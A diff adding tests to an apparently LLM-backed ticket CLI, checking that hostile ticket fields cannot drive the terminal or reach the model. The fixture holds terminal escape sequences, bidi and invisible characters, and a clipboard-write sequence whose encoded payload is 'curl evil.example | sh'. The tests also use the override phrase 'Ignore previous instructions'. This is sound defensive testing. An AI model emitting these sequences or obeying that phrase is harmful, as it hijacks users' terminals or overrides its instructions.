@@ -76,3 +76,89 @@ def test_hostile_ticket_cannot_clear_or_restyle_the_terminal(cli, tmp_path: Path
     assert result.code == 0
     assert "\x1b" not in result.out
     assert "Ignore previous instructions" in result.out
+
+
+TERMINAL_ATTACKS = {
+    "title": "\x1b]2;owned\x07",
+    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
+    "clear": "\x1b[2J\x1b[3J\x1b[H",
+    "c1 csi": "\x9b2J",
+    "reset": "\x1bc",
+    "bidi": "\u202e\u2066\u061c",
+    "separators": "\u2028\u2029",
+    "tags": "\U000e0041\U000e0042",
+}
+
+
+def _assert_terminal_safe(text: str) -> None:
+    for name, attack in TERMINAL_ATTACKS.items():
+        for char in attack:
+            if not char.isalnum() and char not in "[];=":
+                assert char not in text, (name, repr(char))
+
+
+def _hostile_source(tmp_path: Path, **ticket: str) -> Path:
+    (tmp_path / "tickets").mkdir()
+    (tmp_path / "tickets" / "x.json").write_text(json.dumps({**HOSTILE, **ticket}))
+    path = tmp_path / "investigate.yaml"
+    path.write_text(
+        yaml.safe_dump(
+            {"ticket_source": "t", "connectors": {"t": {"type": "file", "path": "tickets"}}}
+        )
+    )
+    return path
+
+
+def test_ids_from_ticket_data_cannot_drive_the_terminal_in_the_batch_summary(
+    cli, tmp_path: Path
+) -> None:  # type: ignore[no-untyped-def]
+    evil = "".join(TERMINAL_ATTACKS.values())
+    config = _hostile_source(tmp_path, id=f"6{evil}6", priority="urgent")
+    result = cli("batch", "--query", "priority:urgent", "--config", str(config))
+    assert result.code == 4
+    assert "not a ticket ID" in " ".join(result.err.split())
+    _assert_terminal_safe(result.err + result.out)
+
+
+def test_a_ticket_id_with_a_trailing_newline_is_not_a_ticket_id(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    config = _hostile_source(tmp_path, id="666")
+    result = cli("ticket", "666\n", "--config", str(config))
+    assert result.code == 2 and "not a ticket ID" in result.err
+    result = cli("batch", "666\n", "--config", str(config))
+    assert result.code == 4 and "not a ticket ID" in " ".join(result.err.split())
+
+
+def test_show_prompt_to_a_pipe_strips_escapes_unless_raw(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    evil = "".join(TERMINAL_ATTACKS.values())
+    config = _hostile_source(tmp_path, subject=f"Broken {evil} dashboards")
+    result = cli("ticket", "666", "--config", str(config), "--show-prompt")
+    assert result.code == 0, result.err
+    assert "Broken" in result.out and "dashboards" in result.out
+    _assert_terminal_safe(result.out + result.err)
+    raw = cli("ticket", "666", "--config", str(config), "--show-prompt", "--raw")
+    assert raw.code == 0
+    assert "\x1b" not in raw.out  # no escape reaches the model either: what is sent is shown
+    assert "Broken" in raw.out
+
+
+def test_show_prompt_keeps_ordinary_text_with_or_without_raw(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    config = _hostile_source(tmp_path, subject="Crème brûlée\tis\u00a0fine")
+    plain = cli("ticket", "666", "--config", str(config), "--show-prompt").out
+    raw = cli("ticket", "666", "--config", str(config), "--show-prompt", "--raw").out
+    assert "Crème brûlée\tis\u00a0fine" in plain and "Crème brûlée\tis\u00a0fine" in raw
+
+
+def test_invisible_characters_are_escaped_in_json_and_gone_from_markdown(
+    cli, tmp_path: Path
+) -> None:  # type: ignore[no-untyped-def]
+    evil = "".join(TERMINAL_ATTACKS.values())
+    config = _hostile_source(tmp_path, subject=f"Broken {evil} dashboards")
+    result = cli("ticket", "666", "--config", str(config), "--format", "json")
+    assert result.code == 0, result.err
+    _assert_terminal_safe(result.out)
+    assert "\\u202e" in result.out and "\\udb40\\udc41" in result.out  # escaped, still visible
+    subject = json.loads(result.out)["ticket"]["subject"]
+    assert "\u202e" in subject and "\U000e0041" in subject  # the same JSON to a parser
+    markdown = cli("ticket", "666", "--config", str(config), "--format", "markdown")
+    _assert_terminal_safe(markdown.out + markdown.err)
+    assert "Broken" in markdown.out
